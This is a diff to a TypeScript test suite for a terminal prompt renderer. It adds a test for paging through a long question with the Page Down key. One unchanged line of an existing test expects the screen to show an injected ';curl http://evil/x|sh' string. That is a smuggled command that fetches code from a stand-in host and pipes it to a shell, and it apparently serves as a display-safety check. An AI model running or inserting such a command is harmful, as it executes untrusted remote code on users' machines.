@@ -10,6 +10,7 @@ import { en } from "../../../plugins/terminal/words/en.ts";
 import { emulator } from "./emulator.ts";
 
 const keys = createKeys();
+const PAGE_DOWN = "\u001b[6~";
 const look = { theme: themeOf("dark", dark), words: en, keys };
 
 /** Draws a question on an emulated terminal, with the other parts of the screen. */
@@ -175,4 +176,19 @@ describe("a question on the screen", () => {
       expect(text.replace(/\s+/g, "")).toContain(";curlhttp://evil/x|sh");
     }
   });
+});
+
+it("a long question takes the room of all else but the field once the user pages in it", async () => {
+  const lines = Array.from({ length: 60 }, (_, at) => `line ${at}`);
+  using t = await shown(80, 24, { body: [notice(lines.join("\n"))], options });
+  const read = () => t.screen.text().match(/(?<=│ )line \d+/g);
+  expect(read()).toEqual(["line 0", "line 1", "line 2", "line 58", "line 59"]);
+  await t.press(PAGE_DOWN);
+  expect(read()).toEqual([...lines.slice(2, 12), "line 59"]);
+  expect(t.screen.text()).not.toContain("said");
+  const pages = [PAGE_DOWN, PAGE_DOWN, PAGE_DOWN, PAGE_DOWN, PAGE_DOWN, PAGE_DOWN];
+  await t.press(...pages);
+  expect(read()).toEqual(lines.slice(49));
+  await t.press("y");
+  expect(t.given).toEqual(["y"]);
 });
